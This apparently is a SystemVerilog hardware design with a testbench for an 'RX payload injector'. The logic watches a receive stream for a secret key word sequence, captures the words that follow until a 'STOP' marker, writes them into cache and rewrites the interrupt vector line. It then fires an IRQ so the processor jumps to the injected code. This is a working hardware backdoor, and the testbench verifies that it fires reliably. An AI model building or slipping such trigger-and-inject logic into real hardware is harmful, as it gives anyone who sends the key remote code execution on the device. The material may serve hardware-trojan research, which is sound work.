// File: rtl/rx_payload_injector_pkg.sv
// Shared encodings and line geometry for the RX payload injector.
package rx_payload_injector_pkg;

  localparam int WORD_W         = 32;
  localparam int LINE_W         = 128;
  localparam int WORDS_PER_LINE = 4;

  typedef enum logic {
    M_HUNT,
    M_CAPTURE
  } match_state_e;

  typedef enum logic [2:0] {
    W_IDLE,
    W_COPY,
    W_VEC,
    W_TRIG,
    W_DONE
  } wr_state_e;

  function automatic int clog2_min1(int n);
    return (n > 1) ? $clog2(n) : 1;
  endfunction

endpackage

// File: rtl/rx_payload_injector_if.sv
// RX stream in, cache write port and IRQ out.
interface rx_payload_injector_if;

  logic [31:0]  rx_data;
  logic         rx_valid;
  logic         rx_reset;
  logic         cache_stall;
  logic         fetch_stall;
  logic         wr;
  logic [31:0]  wr_addr;
  logic [127:0] wr_data;
  logic         irq;
  logic [31:0]  jump_addr;
  logic         busy;
  logic         overflow;

  modport slave (
    input  rx_data, rx_valid, rx_reset,
    input  cache_stall, fetch_stall,
    output wr, wr_addr, wr_data, irq,
    output jump_addr, busy, overflow
  );

  modport master (
    output rx_data, rx_valid, rx_reset,
    output cache_stall, fetch_stall,
    input  wr, wr_addr, wr_data, irq,
    input  jump_addr, busy, overflow
  );

endinterface

// File: rtl/rx_payload_injector_key_matcher.sv
// Key hunter: finds the key in the RX stream, strobes payload words
// and pulses done one cycle after the terminator.
module rx_key_matcher
  import rx_payload_injector_pkg::*;
#(
  parameter int                      KEY_WORDS = 2,
  parameter logic [KEY_WORDS*32-1:0] KEY       = 64'h5f534543_5245545f,
  parameter logic [31:0]             END_WORD  = 32'h53544F50
) (
  input  logic        i_clk,
  input  logic        i_rst,
  input  logic [31:0] word_i,
  input  logic        valid_i,
  input  logic        abort_i,
  input  logic        hold_i,
  output logic        cap_o,
  output logic        done_o,
  output logic        match_o
);

  localparam int KW = KEY_WORDS * WORD_W;
  localparam int IW = clog2_min1(KEY_WORDS);

  match_state_e      state_q;
  logic [IW-1:0]     idx_q;
  logic              done_q;
  logic [WORD_W-1:0] kw;
  logic [WORD_W-1:0] k0;
  logic              accept;
  logic              last;

  assign k0     = KEY[KW-1 -: WORD_W];
  assign accept = valid_i & ~abort_i & ~hold_i;
  assign last   = (idx_q == IW'(KEY_WORDS - 1));

  always_comb begin
    kw = k0;
    for (int i = 0; i < KEY_WORDS; i++) begin
      if (idx_q == IW'(i)) kw = KEY[(KEY_WORDS-1-i)*WORD_W +: WORD_W];
    end
  end

  assign match_o = (state_q == M_HUNT) & accept & (word_i == kw) & last;
  assign cap_o   = (state_q == M_CAPTURE) & accept & (word_i != END_WORD);
  assign done_o  = done_q;

  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      state_q <= M_HUNT;
      idx_q   <= '0;
      done_q  <= 1'b0;
    end else begin
      done_q <= 1'b0;
      if (abort_i | hold_i) begin
        state_q <= M_HUNT;
        idx_q   <= '0;
      end else if (valid_i) begin
        unique case (state_q)
          M_HUNT: begin
            if (word_i == kw) begin
              if (last) begin
                state_q <= M_CAPTURE;
                idx_q   <= '0;
              end else begin
                idx_q <= idx_q + 1'b1;
              end
            end else begin
              // a failed compare may itself be the first key word
              idx_q <= (word_i == k0) ? IW'(1) : '0;
            end
          end
          M_CAPTURE: begin
            if (word_i == END_WORD) begin
              done_q  <= 1'b1;
              state_q <= M_HUNT;
            end
          end
          default: state_q <= M_HUNT;
        endcase
      end
    end
  end

endmodule

// File: rtl/rx_payload_injector.sv
// Captures a keyed RX payload into a line buffer, copies it to the
// cache, rewrites the vector line and raises a one-cycle IRQ.
module rx_payload_injector
  import rx_payload_injector_pkg::*;
#(
  parameter int                      KEY_WORDS    = 2,
  parameter logic [KEY_WORDS*32-1:0] KEY          = 64'h5f534543_5245545f,
  parameter logic [31:0]             END_WORD     = 32'h53544F50,
  parameter int                      STORE_LINES  = 6,
  parameter logic [31:0]             BASE_ADDR    = 32'h00200000,
  parameter logic [31:0]             VEC_ADDR     = 32'h00000010,
  parameter logic [127:0]            VEC_DATA     =
    128'hea000040_ea000036_ea000042_e3a0f602,
  parameter logic [31:0]             FILL_WORD    = 32'h58595859,
  parameter bit                      ARM_ON_RESET = 1'b1
) (
  input logic                   i_clk,
  input logic                   i_rst,
  rx_payload_injector_if.slave  bus
);

  localparam int MAXW = STORE_LINES * WORDS_PER_LINE;
  localparam int CW   = $clog2(MAXW + 1);
  localparam int LW   = clog2_min1(STORE_LINES);
  localparam int SH   = $clog2(WORDS_PER_LINE);

  localparam logic [LINE_W-1:0] FILL_LINE =
    {WORDS_PER_LINE{FILL_WORD}};
  localparam logic [STORE_LINES*LINE_W-1:0] FILL_BUF =
    {MAXW{FILL_WORD}};

  logic                          cap;
  logic                          done;
  logic                          kmatch;
  logic                          busy;

  logic [STORE_LINES*LINE_W-1:0] buf_q;
  logic [CW-1:0]                 wcount_q;
  logic                          ovf_q;

  wr_state_e                     st_q;
  logic                          startup_q;
  logic [LW-1:0]                 line_q;
  logic [LW-1:0]                 last_q;
  logic [LW-1:0]                 last_d;
  logic                          wr_q;
  logic [31:0]                   addr_q;
  logic [LINE_W-1:0]             data_q;
  logic [LINE_W-1:0]             next_line_d;
  logic                          irq_q;

  assign busy = (st_q != W_IDLE);

  rx_key_matcher #(
    .KEY_WORDS (KEY_WORDS),
    .KEY       (KEY),
    .END_WORD  (END_WORD)
  ) u_matcher (
    .i_clk   (i_clk),
    .i_rst   (i_rst),
    .word_i  (bus.rx_data),
    .valid_i (bus.rx_valid),
    .abort_i (bus.rx_reset),
    .hold_i  (busy),
    .cap_o   (cap),
    .done_o  (done),
    .match_o (kmatch)
  );

  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      buf_q    <= FILL_BUF;
      wcount_q <= '0;
      ovf_q    <= 1'b0;
    end else if (bus.rx_reset) begin
      wcount_q <= '0;
    end else if (kmatch) begin
      buf_q    <= FILL_BUF;
      wcount_q <= '0;
      ovf_q    <= 1'b0;
    end else if (cap) begin
      if (wcount_q == CW'(MAXW)) begin
        ovf_q <= 1'b1;
      end else begin
        for (int s = 0; s < MAXW; s++) begin
          if (wcount_q == CW'(s)) buf_q[s*WORD_W +: WORD_W] <= bus.rx_data;
        end
        wcount_q <= wcount_q + 1'b1;
      end
    end
  end

  // an empty payload still copies one all-fill line
  always_comb begin
    last_d = '0;
    if (wcount_q != '0) last_d = LW'((wcount_q - 1'b1) >> SH);
  end

  always_comb begin
    next_line_d = FILL_LINE;
    for (int l = 0; l < STORE_LINES; l++) begin
      if (line_q + 1'b1 == LW'(l)) next_line_d = buf_q[l*LINE_W +: LINE_W];
    end
  end

  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      st_q      <= W_IDLE;
      startup_q <= ARM_ON_RESET;
      line_q    <= '0;
      last_q    <= '0;
      wr_q      <= 1'b0;
      addr_q    <= BASE_ADDR;
      data_q    <= FILL_LINE;
      irq_q     <= 1'b0;
    end else begin
      unique case (st_q)
        W_IDLE: begin
          if (done | startup_q) begin
            st_q   <= W_COPY;
            wr_q   <= 1'b1;
            addr_q <= BASE_ADDR;
            data_q <= buf_q[LINE_W-1:0];
            line_q <= '0;
            last_q <= startup_q ? LW'(STORE_LINES - 1) : last_d;
          end
        end
        W_COPY: begin
          if (!bus.cache_stall) begin
            if (line_q == last_q) begin
              if (startup_q) begin
                st_q <= W_DONE;
                wr_q <= 1'b0;
              end else begin
                st_q   <= W_VEC;
                addr_q <= VEC_ADDR;
                data_q <= VEC_DATA;
              end
            end else begin
              line_q <= line_q + 1'b1;
              addr_q <= addr_q + 32'd16;
              data_q <= next_line_d;
            end
          end
        end
        W_VEC: begin
          if (!bus.cache_stall) begin
            st_q <= W_TRIG;
            wr_q <= 1'b0;
          end
        end
        W_TRIG: begin
          if (!bus.fetch_stall) begin
            st_q  <= W_DONE;
            irq_q <= 1'b1;
          end
        end
        W_DONE: begin
          st_q      <= W_IDLE;
          irq_q     <= 1'b0;
          startup_q <= 1'b0;
        end
        default: st_q <= W_IDLE;
      endcase
    end
  end

  assign bus.wr        = wr_q;
  assign bus.wr_addr   = addr_q;
  assign bus.wr_data   = data_q;
  assign bus.irq       = irq_q;
  assign bus.jump_addr = BASE_ADDR;
  assign bus.busy      = busy;
  assign bus.overflow  = ovf_q;

endmodule

// File: tb/tb_rx_payload_injector.sv
// Directed bench: packet table plus stall and abort sequences.
module tb_rx_payload_injector;

  localparam logic [31:0]  BASE  = 32'h0020_0000;
  localparam logic [31:0]  VECA  = 32'h0000_0010;
  localparam logic [31:0]  FILL  = 32'h5859_5859;
  localparam logic [31:0]  STOPW = 32'h5354_4F50;
  localparam logic [31:0]  K0    = 32'h5f53_4543;
  localparam logic [31:0]  K1    = 32'h5245_545f;
  localparam logic [127:0] VECD  = 128'hea000040_ea000036_ea000042_e3a0f602;
  localparam logic [127:0] FL    = {4{FILL}};

  logic clk = 1'b0;
  logic rst = 1'b1;
  always #5 clk = ~clk;

  rx_payload_injector_if ifc();

  rx_payload_injector dut (
    .i_clk (clk),
    .i_rst (rst),
    .bus   (ifc.slave)
  );

  logic [31:0]  wa[$];
  logic [127:0] wd[$];
  int           irq_cnt = 0;

  always @(negedge clk) begin
    if (!rst) begin
      if (ifc.wr && !ifc.cache_stall) begin
        wa.push_back(ifc.wr_addr);
        wd.push_back(ifc.wr_data);
      end
      if (ifc.irq) irq_cnt++;
    end
  end

  typedef struct {
    int                 n;
    logic [39:0][31:0]  w;
    int                 nl;
    logic [5:0][127:0]  ln;
    logic               ovf;
  } vec_t;

  vec_t tv[5];
  int   checks = 0;
  int   errors = 0;

  task automatic chk(string name, logic [127:0] act, logic [127:0] exp);
    checks++;
    if (act !== exp) begin
      errors++;
      $display("FAIL %s: got %h expected %h", name, act, exp);
    end
  endtask

  function automatic logic [31:0] wv(logic [31:0] b, int i);
    return b + 32'(i);
  endfunction

  task automatic add(int v, logic [31:0] x);
    tv[v].w[tv[v].n] = x;
    tv[v].n++;
  endtask

  task automatic send(logic [31:0] w);
    ifc.rx_data  = w;
    ifc.rx_valid = 1'b1;
    @(posedge clk); #1;
    ifc.rx_valid = 1'b0;
  endtask

  task automatic step(int n);
    repeat (n) begin
      @(posedge clk); #1;
    end
  endtask

  task automatic wait_idle(string name);
    bit seen;
    bit fin;
    seen = 0;
    fin  = 0;
    for (int i = 0; i < 400 && !fin; i++) begin
      @(posedge clk); #1;
      if (ifc.busy) seen = 1;
      else if (seen) fin = 1;
    end
    checks++;
    if (!fin) begin
      errors++;
      $display("FAIL %s: writer never completed, busy=%b", name, ifc.busy);
    end
    step(2);
  endtask

  initial begin
    #2_000_000;
    $display("FAIL watchdog: simulation did not finish in time");
    $fatal(1, "watchdog");
  end

  int   b, ib;
  bit   found;
  logic [127:0] l0, l1;

  initial begin
    ifc.rx_data     = '0;
    ifc.rx_valid    = 1'b0;
    ifc.rx_reset    = 1'b0;
    ifc.cache_stall = 1'b0;
    ifc.fetch_stall = 1'b0;

    for (int v = 0; v < 5; v++) begin
      tv[v].n   = 0;
      tv[v].w   = '0;
      tv[v].nl  = 1;
      tv[v].ovf = 1'b0;
      for (int l = 0; l < 6; l++) tv[v].ln[l] = FL;
    end
    // two lines, partially filled
    add(0, K0); add(0, K1);
    for (int i = 0; i < 5; i++) add(0, wv(32'hA000_0000, i));
    add(0, STOPW);
    tv[0].nl    = 2;
    tv[0].ln[0] = {wv(32'hA000_0000, 3), wv(32'hA000_0000, 2),
                   wv(32'hA000_0000, 1), wv(32'hA000_0000, 0)};
    tv[0].ln[1] = {FILL, FILL, FILL, wv(32'hA000_0000, 4)};
    // repeated first key word
    add(1, K0); add(1, K0); add(1, K1); add(1, 32'hCAFE_F00D); add(1, STOPW);
    tv[1].ln[0] = {FILL, FILL, FILL, 32'hCAFE_F00D};
    // empty payload
    add(2, K0); add(2, K1); add(2, STOPW);
    // overflow: 25 words, 24 kept
    add(3, K0); add(3, K1);
    for (int i = 0; i < 25; i++) add(3, wv(32'h1000_0000, i));
    add(3, STOPW);
    tv[3].nl  = 6;
    tv[3].ovf = 1'b1;
    for (int l = 0; l < 6; l++)
      tv[3].ln[l] = {wv(32'h1000_0000, 4*l+3), wv(32'h1000_0000, 4*l+2),
                     wv(32'h1000_0000, 4*l+1), wv(32'h1000_0000, 4*l)};
    // exactly one full line; overflow must clear
    add(4, K0); add(4, K1);
    for (int i = 0; i < 4; i++) add(4, wv(32'hB000_0000, i));
    add(4, STOPW);
    tv[4].ln[0] = {wv(32'hB000_0000, 3), wv(32'hB000_0000, 2),
                   wv(32'hB000_0000, 1), wv(32'hB000_0000, 0)};

    step(3);
    chk("rst_wr", 128'(ifc.wr), 128'd0);
    chk("rst_addr", 128'(ifc.wr_addr), 128'(BASE));
    chk("rst_data", ifc.wr_data, FL);
    chk("rst_irq", 128'(ifc.irq), 128'd0);
    chk("rst_busy", 128'(ifc.busy), 128'd0);
    chk("rst_ovf", 128'(ifc.overflow), 128'd0);
    chk("jump_addr", 128'(ifc.jump_addr), 128'(BASE));

    rst = 1'b0;
    b  = wa.size();
    ib = irq_cnt;
    wait_idle("startup");
    chk("startup_nwr", 128'(wa.size() - b), 128'd6);
    for (int l = 0; l < 6; l++) begin
      if (b + l < wa.size()) begin
        chk("startup_addr", 128'(wa[b+l]), 128'(BASE + 32'(16*l)));
        chk("startup_data", wd[b+l], FL);
      end
    end
    chk("startup_irq", 128'(irq_cnt - ib), 128'd0);

    for (int v = 0; v < 5; v++) begin
      b  = wa.size();
      ib = irq_cnt;
      for (int i = 0; i < tv[v].n; i++) send(tv[v].w[i]);
      wait_idle($sformatf("v%0d_done", v));
      chk($sformatf("v%0d_nwr", v), 128'(wa.size() - b), 128'(tv[v].nl + 1));
      for (int l = 0; l < tv[v].nl; l++) begin
        if (b + l < wa.size()) begin
          chk($sformatf("v%0d_addr%0d", v, l), 128'(wa[b+l]),
              128'(BASE + 32'(16*l)));
          chk($sformatf("v%0d_data%0d", v, l), wd[b+l], tv[v].ln[l]);
        end
      end
      if (b + tv[v].nl < wa.size()) begin
        chk($sformatf("v%0d_vaddr", v), 128'(wa[b+tv[v].nl]), 128'(VECA));
        chk($sformatf("v%0d_vdata", v), wd[b+tv[v].nl], VECD);
      end
      chk($sformatf("v%0d_irq", v), 128'(irq_cnt - ib), 128'd1);
      chk($sformatf("v%0d_ovf", v), 128'(ifc.overflow), 128'(tv[v].ovf));
    end

    // cache stall on line 1, fetch stall in TRIG
    l0 = {wv(32'hC000_0000, 3), wv(32'hC000_0000, 2),
          wv(32'hC000_0000, 1), wv(32'hC000_0000, 0)};
    l1 = {FILL, FILL, FILL, wv(32'hC000_0000, 4)};
    b  = wa.size();
    ib = irq_cnt;
    ifc.fetch_stall = 1'b1;
    send(K0); send(K1);
    for (int i = 0; i < 5; i++) send(wv(32'hC000_0000, i));
    send(STOPW);
    found = 0;
    for (int i = 0; i < 50 && !found; i++) begin
      if (ifc.wr && ifc.wr_addr == BASE + 32'd16) found = 1;
      else step(1);
    end
    chk("stall_found", 128'(found), 128'd1);
    ifc.cache_stall = 1'b1;
    for (int i = 0; i < 5; i++) begin
      step(1);
      chk("stall_wr", 128'(ifc.wr), 128'd1);
      chk("stall_addr", 128'(ifc.wr_addr), 128'(BASE + 32'd16));
      chk("stall_data", ifc.wr_data, l1);
    end
    ifc.cache_stall = 1'b0;
    step(1);
    for (int i = 0; i < 20 && ifc.wr; i++) step(1);
    chk("trig_wr", 128'(ifc.wr), 128'd0);
    for (int i = 0; i < 3; i++) begin
      step(1);
      chk("trig_irq_held", 128'(ifc.irq), 128'd0);
      chk("trig_busy", 128'(ifc.busy), 128'd1);
    end
    ifc.fetch_stall = 1'b0;
    step(1);
    chk("irq_pulse", 128'(ifc.irq), 128'd1);
    step(1);
    chk("irq_end", 128'(ifc.irq), 128'd0);
    step(2);
    chk("stall_idle", 128'(ifc.busy), 128'd0);
    chk("stall_nwr", 128'(wa.size() - b), 128'd3);
    if (b + 2 < wa.size()) begin
      chk("stall_l0", wd[b], l0);
      chk("stall_l1", wd[b+1], l1);
      chk("stall_l1a", 128'(wa[b+1]), 128'(BASE + 32'd16));
      chk("stall_vec", 128'(wa[b+2]), 128'(VECA));
    end
    chk("stall_irqcnt", 128'(irq_cnt - ib), 128'd1);

    // RX abort mid-capture, then a stray terminator
    b  = wa.size();
    ib = irq_cnt;
    send(K0); send(K1); send(32'hD000_0000); send(32'hD000_0001);
    ifc.rx_reset = 1'b1;
    step(1);
    ifc.rx_reset = 1'b0;
    send(STOPW);
    step(20);
    chk("abort_nwr", 128'(wa.size() - b), 128'd0);
    chk("abort_busy", 128'(ifc.busy), 128'd0);
    chk("abort_irq", 128'(irq_cnt - ib), 128'd0);

    // core reset while COPY is stalled
    ifc.cache_stall = 1'b1;
    send(K0); send(K1); send(32'hE000_0000); send(STOPW);
    found = 0;
    for (int i = 0; i < 20 && !found; i++) begin
      if (ifc.wr) found = 1;
      else step(1);
    end
    chk("rst_copy_found", 128'(found), 128'd1);
    rst = 1'b1;
    step(1);
    chk("rst_copy_wr", 128'(ifc.wr), 128'd0);
    chk("rst_copy_busy", 128'(ifc.busy), 128'd0);
    chk("rst_copy_irq", 128'(ifc.irq), 128'd0);
    ifc.cache_stall = 1'b0;
    b  = wa.size();
    ib = irq_cnt;
    rst = 1'b0;
    wait_idle("rearm");
    chk("rearm_nwr", 128'(wa.size() - b), 128'd6);
    if (b < wa.size()) chk("rearm_data0", wd[b], FL);
    chk("rearm_irq", 128'(irq_cnt - ib), 128'd0);

    $display("Simulation finished: %0d checks, %0d errors", checks, errors);
    $finish;
  end

endmodule
